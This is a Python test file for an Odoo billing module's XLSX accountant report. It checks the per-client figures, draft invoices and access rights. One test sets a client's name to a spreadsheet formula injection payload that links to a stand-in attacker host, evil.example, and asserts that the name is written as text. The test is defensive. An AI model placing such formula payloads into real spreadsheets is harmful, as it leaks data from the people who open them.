# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import base64
import io
from datetime import date, datetime

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import tagged

from .common import StekasBillingCommon


@tagged("post_install", "-at_install")
class TestBillingReport(StekasBillingCommon):
    """The accountant's XLSX report per billing period and its pivot."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()

    def test_xlsx_per_client(self):
        self.env["account.analytic.line"].create(
            [self._vals(30, datetime(2026, 1, day, 9)) for day in (5, 6, 7, 8, 9)]
        )
        self._log(30, datetime(2026, 1, 11, 9), self.wt_training)
        wizard = (
            self.env["stekas.billing.run"]
            .with_user(self.accountant)
            .create({"date_from": date(2026, 1, 1), "date_to": date(2026, 1, 31)})
        )
        invoice = self.env["account.move"].search(wizard.action_run()["domain"])
        invoice.action_post()
        action = wizard.action_xlsx_report()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[3].split("?")[0])
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        rows = [
            row for row in book.active.iter_rows(min_row=4, values_only=True) if row[0]
        ]
        self.assertEqual(len(rows), 1)
        client, contract, free, used, overage, paid, no_contract, amount, names = rows[
            0
        ]
        self.assertEqual((client, contract), ("Client A UAB", "AS-TEST-1"))
        self.assertEqual((free, used, overage, paid), (2.0, 2.0, 1.0, 0.6))
        self.assertAlmostEqual(amount, 72.0, places=2)
        self.assertEqual(names, invoice.name)
        # the pivot holds the same figures
        Report = self.env["stekas.billing.report"].with_user(self.accountant)
        groups = Report._read_group(
            [("partner_id", "=", self.client_a.id)], [], ["amount:sum"]
        )
        self.assertAlmostEqual(groups[0][0], 72.0, places=2)

    def _read_xlsx(self, wizard):
        action = wizard.action_xlsx_report()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[3].split("?")[0])
        )
        return openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))

    def test_xlsx_with_draft_invoice_and_formula_like_name(self):
        """The report of a period the run has just billed (a draft prepayment
        invoice, no number yet) works, and a client's name that looks like a
        formula is written as text."""
        name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        self.client_b.write(
            {
                "name": name,
                "stekas_billing_mode": "invoice_month",
                "stekas_hourly_rate": 40.0,
            }
        )
        self._log(20, datetime(2026, 1, 12, 9), ticket=self.ticket_b)
        wizard = (
            self.env["stekas.billing.run"]
            .with_user(self.accountant)
            .create(
                {
                    "date_from": date(2026, 1, 1),
                    "date_to": date(2026, 1, 31),
                    "send_statements": False,
                }
            )
        )
        invoice = self.env["account.move"].search(wizard.action_run()["domain"])
        self.assertEqual(invoice.state, "draft")
        sheet = self._read_xlsx(wizard).active
        rows = {
            row[0].value: row
            for row in sheet.iter_rows(min_row=4)
            if row[0].value is not None
        }
        self.assertIn(name, rows)
        client = rows[name][0]
        self.assertEqual(client.data_type, "s")
        self.assertEqual(rows[name][8].data_type, "s")
        self.assertEqual(rows[name][8].value, invoice.display_name)
        self.assertAlmostEqual(rows[name][7].value, 16.0, places=2)

    def test_consultant_cannot_read_report(self):
        with self.assertRaises(AccessError):
            self.env["stekas.billing.report"].with_user(self.consultant).search([])
